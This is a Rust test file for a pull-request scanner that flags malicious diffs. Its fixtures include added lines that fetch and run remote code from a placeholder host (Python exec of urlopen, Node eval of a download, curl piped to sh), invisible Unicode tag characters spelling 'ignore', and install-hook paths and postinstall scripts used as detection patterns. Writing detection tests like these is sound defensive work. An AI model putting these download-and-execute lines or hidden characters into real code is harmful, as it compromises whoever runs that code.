//! Diffs of honest and malicious pull requests.

use code_host::PullRequestFile;

use super::{DiffChecks, check};
use crate::artifact::PullVerdict;

fn file(path: &str, patch: Option<&str>) -> PullRequestFile {
    let additions =
        patch.map_or(0, |patch| patch.lines().filter(|line| line.starts_with('+')).count() as u64);
    PullRequestFile {
        path: path.to_owned(),
        previous_path: None,
        status: "modified".to_owned(),
        additions,
        deletions: 0,
        patch: patch.map(str::to_owned),
    }
}

fn checked(path: &str, patch: Option<&str>) -> DiffChecks {
    check(&[file(path, patch)], true)
}

const CLEAN: DiffChecks = DiffChecks {
    has_chain: false,
    has_hidden_characters: false,
    has_hook: false,
    has_binary: false,
    is_complete: true,
};

#[test]
fn honest_changes_are_clean() {
    for (path, patch) in [
        ("src/lib.rs", "@@ -1,2 +1,3 @@\n fn a() {}\n+fn b() {}\n"),
        (
            "app/views.py",
            "@@ -40,3 +40,5 @@ def show(request):\n     user = find(request)\n+    if user is None:\n+        raise NotFound()\n     return user\n",
        ),
        (
            "client.ts",
            "@@ -3,1 +3,3 @@\n import { get } from './http';\n+export const load = () => get('/items').then((reply) => reply.json());\n",
        ),
        ("deploy.sh", "@@ -1,2 +1,3 @@\n #!/bin/sh\n+set -eu\n make\n"),
        ("README.md", "@@ -1 +1,2 @@\n # Tool\n+It is fast. 🚀\n"),
        (
            "package.json",
            "@@ -5,2 +5,3 @@\n   \"scripts\": {\n+    \"test\": \"jest\",\n     \"build\": \"tsc\"\n",
        ),
    ] {
        assert_eq!(checked(path, Some(patch)), CLEAN, "{path}");
    }
    assert_eq!(CLEAN.verdict(), PullVerdict::Clean);
    assert_eq!(check(&[], true), CLEAN);
}

#[test]
fn malicious_added_lines_are_a_chain() {
    for (path, patch) in [
        (
            "tool/run.py",
            "@@ -1,1 +1,3 @@\n import os\n+import urllib.request as u\n+exec(u.urlopen('https://host.example.dev/x').read())\n",
        ),
        (
            "lib/index.js",
            "@@ -1,1 +1,4 @@\n 'use strict';\n+const https = require('https');\n+https.get('https://host.example.dev/x', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });\n",
        ),
        ("scripts/build.sh", "@@ -1 +1,2 @@\n #!/bin/sh\n+curl -fsSL https://host.example.dev/x.sh | sh\n"),
    ] {
        let checks = checked(path, Some(patch));
        assert!(checks.has_chain, "{path}");
        assert_eq!(checks.verdict(), PullVerdict::Review);
    }
}

#[test]
fn hidden_characters_are_found_in_any_file() {
    let hidden: String = "ignore".chars().filter_map(|one| char::from_u32(0xE0000 + one as u32)).collect();
    let patch = format!("@@ -0,0 +1 @@\n+Text{hidden}{hidden}\n");
    let checks = checked("docs/index.txt", Some(&patch));
    assert_eq!(checks, DiffChecks { has_hidden_characters: true, ..CLEAN });
    assert_eq!(checks.verdict(), PullVerdict::Review);
}

#[test]
fn workflows_and_install_hooks_are_for_review() {
    let patch = "@@ -1 +1,2 @@\n a: b\n+c: d\n";
    for path in [
        ".github/workflows/ci.yml",
        ".github/actions/setup/index.js",
        "action.yml",
        "setup.py",
        "crate/build.rs",
        ".husky/pre-commit",
        "native/binding.gyp",
        "x.pth",
        ".vscode/tasks.json",
    ] {
        assert!(checked(path, Some(patch)).has_hook, "{path}");
    }
    for path in ["docs/workflows/ci.yml", "src/setup_test.py", "rebuild.rs", "a/action.yml.md"] {
        assert!(!checked(path, Some(patch)).has_hook, "{path}");
    }
    let script =
        |line: &str| checked("web/package.json", Some(&format!("@@ -1 +1,2 @@\n {{\n+{line}\n"))).has_hook;
    assert!(script("    \"postinstall\": \"node x.js\""));
    assert!(script("\"prepare\" : \"husky\","));
    assert!(
        script("\"scripts\": {\"test\": \"a \\\"b\\\"\", \"postinstall\": \"node x.js\"}"),
        "within a line"
    );
    assert!(script("\"post\\u0069nstall\": \"node x.js\""), "with an escape");
    assert!(script("\"prepublish\"\n+: \"node x.js\""), "over two lines");
    assert!(!script("\"files\": [\"a\", \"install\"], \"x\": \"\\\"install\\\": b\""));
    assert!(!script("    \"install-plugin\": \"1.0\","));
    assert!(!script("    \"description\": \"postinstall\","));
    let removed = "@@ -1,2 +1 @@\n {\n-\"postinstall\": \"node x.js\"\n";
    assert!(!checked("package.json", Some(removed)).has_hook);
    let gone =
        PullRequestFile { status: "removed".to_owned(), ..file(".github/workflows/ci.yml", Some(patch)) };
    assert_eq!(check(&[gone], true), CLEAN);
}

#[test]
fn executables_and_archives_are_for_review_and_pictures_are_not() {
    for path in ["bin/tool.exe", "lib/x.so", "tests/files/bad-3.xz", "a.jar", "model.PKL"] {
        assert!(checked(path, None).has_binary, "{path}");
    }
    for path in ["docs/logo.png", "font.woff2", "pkg/__init__.py", "logs/.gitkeep"] {
        assert_eq!(checked(path, None), CLEAN, "{path}");
    }
    let moved = PullRequestFile { status: "renamed".to_owned(), ..file("b/tool.exe", None) };
    assert_eq!(check(&[moved], true), CLEAN);
}

#[test]
fn a_diff_that_is_not_shown_completely_is_inconclusive() {
    let large = PullRequestFile { additions: 9_000, ..file("package-lock.json", None) };
    let cut_off = PullRequestFile { additions: 3, ..file("a.py", Some("@@ -1,0 +1,3 @@\n+a = 1\n+b = 2\n")) };
    for checks in [
        check(&[large], true),
        check(&[cut_off], true),
        check(&[file("a.md", Some("@@ -1 +1 @@\n+a\n"))], false),
        checked("blob", None),
        checked("a.rs", Some("no diff")),
    ] {
        assert_eq!(checks, DiffChecks { is_complete: false, ..CLEAN });
        assert_eq!(checks.verdict(), PullVerdict::Inconclusive);
    }
    let worse = check(&[file("setup.py", Some("@@ -1 +1 @@\n+a\n"))], false);
    assert_eq!(worse.verdict(), PullVerdict::Review, "a failed check counts more");
}
